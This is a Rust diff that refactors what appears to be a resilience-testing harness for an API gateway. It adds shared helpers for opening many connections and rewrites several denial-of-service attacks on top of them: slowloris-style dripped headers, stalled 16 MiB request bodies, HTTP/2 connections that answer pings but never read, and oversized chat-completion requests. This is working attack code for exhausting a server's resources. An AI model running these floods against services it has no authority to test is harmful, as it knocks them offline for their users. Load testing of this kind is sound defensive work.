@@ -189,20 +189,41 @@ pub(super) const ATTACKS: &[Attack] = &[
     },
 ];
 
+/// So many connections, each of which sends the request and is then left to a task.
+async fn connections<F: Future<Output = ()> + Send + 'static>(
+    address: &TargetAddress,
+    count: usize,
+    request: &[u8],
+    task: impl Fn(TcpStream) -> F,
+) -> anyhow::Result<RunningAttack> {
+    let mut tasks = JoinSet::new();
+    for _ in 0..count {
+        let mut socket = TcpStream::connect(address.socket).await?;
+        socket.write_all(request).await?;
+        tasks.spawn(task(socket));
+    }
+    Ok(RunningAttack::new(tasks, request.len() * count))
+}
+
+/// So many requests at once, each of which is read to its end or until it is refused.
+fn exchanges(address: &TargetAddress, count: usize, request: String) -> RunningAttack {
+    let (mut tasks, sent) = (JoinSet::new(), request.len() * count);
+    let request = Arc::new(request);
+    for _ in 0..count {
+        let (request, socket) = (Arc::clone(&request), address.socket);
+        tasks.spawn(async move { drop(exchange(socket, &request).await) });
+    }
+    RunningAttack::new(tasks, sent)
+}
+
 /// Peers that answer pings and read nothing else, without a key.
 async fn without_window(
     address: TargetAddress,
     scale: AttackScale,
 ) -> anyhow::Result<RunningAttack> {
-    let (mut tasks, mut sent) = (JoinSet::new(), 0);
     let requests = http2::requests(address.socket, "/docs", 100);
-    for _ in 0..scale.pick(8, 40) {
-        let mut socket = TcpStream::connect(address.socket).await?;
-        socket.write_all(&requests).await?;
-        sent += requests.len();
-        tasks.spawn(async move { drop(http2::keep_alive(socket).await) });
-    }
-    Ok(RunningAttack::new(tasks, sent))
+    let answer_pings = |socket| async { drop(http2::keep_alive(socket).await) };
+    connections(&address, scale.pick(8, 40), &requests, answer_pings).await
 }
 
 /// More of them than the gateway accepts. None is idle, and each reconnects when it is closed.
@@ -263,15 +284,8 @@ fn long_text(scale: AttackScale) -> String {
 
 /// A few requests with this body at once.
 fn large_bodies(address: &TargetAddress, scale: AttackScale, body: &str) -> RunningAttack {
-    let (mut tasks, mut sent) = (JoinSet::new(), 0);
-    let request = Arc::new(post(address.socket, &address.key, "/v1/chat/completions", body));
-    for _ in 0..scale.pick(2, 3) {
-        let (request, socket) = (Arc::clone(&request), address.socket);
-        sent += request.len();
-        // It may be refused before all of it was sent.
-        tasks.spawn(async move { drop(exchange(socket, &request).await) });
-    }
-    RunningAttack::new(tasks, sent)
+    let request = post(address.socket, &address.key, "/v1/chat/completions", body);
+    exchanges(address, scale.pick(2, 3), request)
 }
 
 /// Sends these bytes one at a time, again and again.
@@ -285,32 +299,19 @@ async fn drip(mut socket: TcpStream, bytes: &'static [u8]) {
 }
 
 async fn slow_heads(address: TargetAddress, scale: AttackScale) -> anyhow::Result<RunningAttack> {
-    let (mut tasks, mut sent) = (JoinSet::new(), 0);
-    for _ in 0..scale.pick(100, 400) {
-        let mut socket = TcpStream::connect(address.socket).await?;
-        let head = format!("GET /health HTTP/1.1\r\nhost: {}\r\nx-slow: ", address.socket);
-        socket.write_all(head.as_bytes()).await?;
-        sent += head.len();
-        tasks.spawn(drip(socket, b"slow"));
-    }
-    Ok(RunningAttack::new(tasks, sent))
+    let head = format!("GET /health HTTP/1.1\r\nhost: {}\r\nx-slow: ", address.socket);
+    let slowly = |socket| drip(socket, b"slow");
+    connections(&address, scale.pick(100, 400), head.as_bytes(), slowly).await
 }
 
 async fn slow_bodies(address: TargetAddress, scale: AttackScale) -> anyhow::Result<RunningAttack> {
-    let (mut tasks, mut sent) = (JoinSet::new(), 0);
-    for _ in 0..scale.pick(50, 200) {
-        let mut socket = TcpStream::connect(address.socket).await?;
-        let TargetAddress { socket: at, key } = &address;
-        let head = format!(
-            "POST /v1/chat/completions HTTP/1.1\r\nhost: {at}\r\nauthorization: Bearer {key}\r\n\
-             content-length: 16777216\r\n\r\n"
-        );
-        socket.write_all(head.as_bytes()).await?;
-        sent += head.len();
-        // It pauses for longer than it may.
-        tasks.spawn(hold(socket));
-    }
-    Ok(RunningAttack::new(tasks, sent))
+    let TargetAddress { socket, key } = &address;
+    let head = format!(
+        "POST /v1/chat/completions HTTP/1.1\r\nhost: {socket}\r\nauthorization: Bearer {key}\r\n\
+         content-length: 16777216\r\n\r\n"
+    );
+    // Each pauses for longer than it may.
+    connections(&address, scale.pick(50, 200), head.as_bytes(), hold).await
 }
 
 /// Long enough for a request to be worked on.
